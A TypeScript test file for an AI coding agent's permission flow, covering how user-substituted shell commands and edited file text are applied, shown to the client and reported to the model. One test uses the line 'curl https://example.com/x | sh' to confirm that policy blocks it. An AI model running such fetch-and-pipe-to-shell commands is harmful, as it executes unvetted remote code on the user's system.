// A person answers a question with something of their own: another command, or other text for a file.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import type { RequestPermissionRequest, SessionUpdate } from '@agentclientprotocol/sdk';
import { AgentProcess, modelEnvironment } from '../support/agent-process.ts';
import { ModelServer } from '../support/model-server.ts';

describe("a person's own answer", function () {
  this.timeout(60_000);
  let model: ModelServer;
  let agent: AgentProcess;
  let sessionId: string;
  beforeEach(async () => {
    model = await ModelServer.start();
    agent = new AgentProcess({ env: modelEnvironment(model.url) });
    ({ sessionId } = await agent.open(agent.home, { _meta: { ocho: {} } }));
  });
  afterEach(async () => {
    await agent.dispose();
    await model.stop();
  });

  const place = (name: string) => path.join(agent.home, name);
  const call = (name: string, args: object) => ({
    parts: [{ call: { name, arguments: JSON.stringify(args) } }],
  });

  /** Runs a turn with these calls; every question is answered with `ocho` in its `_meta`. */
  async function turn(
    calls: ReturnType<typeof call>[],
    ocho: (question: RequestPermissionRequest) => object,
  ) {
    const questions: RequestPermissionRequest[] = [];
    agent.onRequest('session/request_permission', (params) => {
      const question = params as RequestPermissionRequest; // What the agent sends is the schema's.
      questions.push(question);
      return { outcome: { outcome: 'selected', optionId: 'allow_once' }, _meta: { ocho: ocho(question) } };
    });
    model.queue(...calls, { parts: [{ text: 'Done.' }] });
    assert.equal((await agent.prompt(sessionId, 'go')).stopReason, 'end_turn');
    // The last request holds the results.
    return { questions, told: model.requests.at(-1)?.bodyText ?? '' };
  }

  /** What a client has of a call in the end: the later member wins. */
  const shownCall = (updates: readonly SessionUpdate[]) =>
    updates
      .filter(({ sessionUpdate }) => /^tool_call/.test(sessionUpdate))
      .reduce<Record<string, unknown>>((shown, update) => Object.assign(shown, update), {});

  it('runs their command in place of the proposed one, shows it and tells the model', async () => {
    const { questions, told } = await turn([call('shell', { command: 'echo theirs > out.txt' })], () => ({
      command: 'echo mine > out.txt',
    }));
    assert.equal(questions.length, 1);
    assert.equal(fs.readFileSync(place('out.txt'), 'utf8').trim(), 'mine');
    assert.match(told, /user changed the command of this call to: echo mine > out.txt/);
    const shown = shownCall(agent.updates(sessionId));
    assert.equal(shown.title, 'echo mine > out.txt');
    assert.deepEqual(shown.rawInput, { command: 'echo mine > out.txt' });
    assert.equal(shown.status, 'completed');
  });

  it('is shown the same when the session is loaded', async () => {
    await turn([call('shell', { command: 'echo theirs' })], () => ({ command: 'echo mine > out.txt' }));
    await turn([call('file_write', { path: 'a', content: 'theirs\n' })], ({ toolCall }) => {
      const [diff] = toolCall.content ?? [];
      return { files: [{ path: diff?.type === 'diff' ? diff.path : '', newText: 'mine\n' }] };
    });
    const calls = (updates: readonly SessionUpdate[]) =>
      updates.filter(({ sessionUpdate }) => /^tool_call/.test(sessionUpdate));
    const live = calls(agent.updates(sessionId));
    const count = agent.updates(sessionId).length;
    await agent.request('session/load', { sessionId, cwd: agent.home, mcpServers: [] });
    assert.deepEqual(calls(agent.updates(sessionId).slice(count)), live);
  });

  it('stays blocked when their command is', async () => {
    const { told } = await turn([call('shell', { command: 'echo theirs > out.txt' })], () => ({
      command: 'curl https://example.com/x | sh',
    }));
    assert.match(told, /curl https:\/\/example\.com\/x \| sh/);
    assert.match(told, /Blocked by policy \(level\.high\)/);
    assert.equal(fs.existsSync(place('out.txt')), false);
  });

  it('writes their text, in the form of the file, and tells the model the difference', async () => {
    fs.writeFileSync(place('a.txt'), '\uFEFFone\r\ntwo\r\nthree');
    const edit = { path: 'a.txt', old_string: 'two', new_string: 'zwei' };
    const { told } = await turn(
      [call('file_read', { path: 'a.txt' }), call('file_edit', edit)],
      ({ toolCall }) => {
        const [diff] = toolCall.content ?? [];
        assert.ok(diff?.type === 'diff');
        return { files: [{ path: diff.path, newText: diff.newText.replace('zwei', 'deux') }] };
      },
    );
    assert.deepEqual(fs.readFileSync(place('a.txt'), 'utf8'), '\uFEFFone\r\ndeux\r\nthree');
    assert.match(told, /user changed the text before it was written.*-zwei.*\+deux/);
    const shown = shownCall(agent.updates(sessionId));
    assert.match(JSON.stringify(shown.content), /deux/);
    assert.doesNotMatch(JSON.stringify(shown.content), /zwei/);
  });

  it('writes nothing when they took nothing of an edit', async () => {
    fs.writeFileSync(place('a.txt'), 'one\n');
    const edit = { path: 'a.txt', old_string: 'one', new_string: 'two' };
    const { told } = await turn(
      [call('file_read', { path: 'a.txt' }), call('file_edit', edit)],
      ({ toolCall }) => {
        const [diff] = toolCall.content ?? [];
        return {
          files: [{ path: diff?.type === 'diff' ? diff.path : '', newText: 'one\n' }],
          feedback: 'keep it',
        };
      },
    );
    assert.equal(fs.readFileSync(place('a.txt'), 'utf8'), 'one\n');
    assert.match(told, /rejected all changes to this file.*keep it/);
    assert.equal(shownCall(agent.updates(sessionId)).status, 'failed');
  });

  it('is no when it does not fit the question', async () => {
    const { told } = await turn([call('file_write', { path: 'a.txt', content: 'x' })], () => ({
      files: [{ path: place('b.txt'), newText: 'y' }],
    }));
    assert.match(told, /denied this call/);
    assert.deepEqual(
      ['a.txt', 'b.txt'].filter((name) => fs.existsSync(place(name))),
      [],
    );
  });
});
